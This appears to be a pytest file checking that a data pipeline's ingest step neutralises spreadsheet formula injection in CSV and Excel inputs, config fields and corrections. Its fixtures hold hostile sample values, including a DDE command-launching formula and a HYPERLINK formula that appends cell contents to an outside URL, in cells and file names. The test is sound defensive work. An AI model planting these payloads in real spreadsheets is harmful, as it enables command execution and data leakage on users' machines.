"""Whatever an extract holds, no file we leave for people runs it as a formula."""

import csv
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter

from sop_cli import pipeline
from sop_cli.workspace.request import Request
from tests.toy import Listener

_RUNS = ("=", "+", "-", "@", "\t", "\r")
_LINK = '=HYPERLINK("http://example.com?"&A1,"stock")'
_CALL = "=cmd|' /C calc'!A0"
_CONFIG = f"""company: "=1+1"
currency: EUR
sources:
  stock:
    files: ["=stock.csv", "@stock.xlsx"]
    exclude: [{{rule: "=blocked", column: "{_CALL}", equals: "+1"}}]
"""
_CORRECTIONS = (
    ("file", "sheet", "row", "column", "value", "corrected", "who", "why"),
    ("=stock.csv", "", "4", "quantity", "-x", "3", _LINK, "@SUM(A1)"),
    ("=stock.csv", "", "3", "item", _LINK, _CALL + "1", "=me", "+why"),
)


@pytest.fixture(scope="module")
def left(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What ingest leaves of a text file and a workbook that are full of formulas."""
    base = tmp_path_factory.mktemp("formulas")
    header = ["month", "item", "site", "quantity", _LINK, _CALL]
    records = [
        ["2026-10", _CALL, "@P1", "1", _CALL, "+1"],
        ["2026-10", _LINK, "+P1", "2", "", ""],
        ["2026-10", "A", "-P1", "-x", "", ""],
        ["2026-10", "B", "\tP1", _CALL, "", ""],
        ["=1+1", _LINK, "\rP1", "5", "", ""],
        ["2026-10", _LINK, "+P1", "2", "", ""],
    ]
    with (base / "=stock.csv").open("w", newline="") as file:
        csv.writer(file).writerows([header, *records])
    with xlsxwriter.Workbook(base / "@stock.xlsx", {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet("=Sheet")
        for at, row in enumerate([header, *records]):
            sheet.write_row(at, 0, [f"{cell}2" if cell == "@P1" else cell for cell in row])
    (base / "config.yaml").write_text(_CONFIG)
    with (base / "corrections.csv").open("w", newline="") as file:
        csv.writer(file).writerows(_CORRECTIONS)
    pipeline.run(Request("ingest", base / "config.yaml", "2026-11"), "ingest", Listener())
    return base / "cycles" / "2026-11" / "1-ingested"


@pytest.mark.parametrize("name", ["rejects", "findings", "files", "columns", "corrected", "controls"])
def test_no_cell_of_a_table_that_ingest_leaves_is_a_formula(name: str, left: Path) -> None:
    with (left / f"{name}.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(_RUNS) and not _is_number(cell)]
    assert any(cell.startswith("'") for cell in cells)


def test_a_formula_in_an_extract_is_read_to_the_letter(left: Path) -> None:
    items = set(pl.read_parquet(left / "stock.parquet")["item"])
    assert {_CALL + "1", _LINK} <= items


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
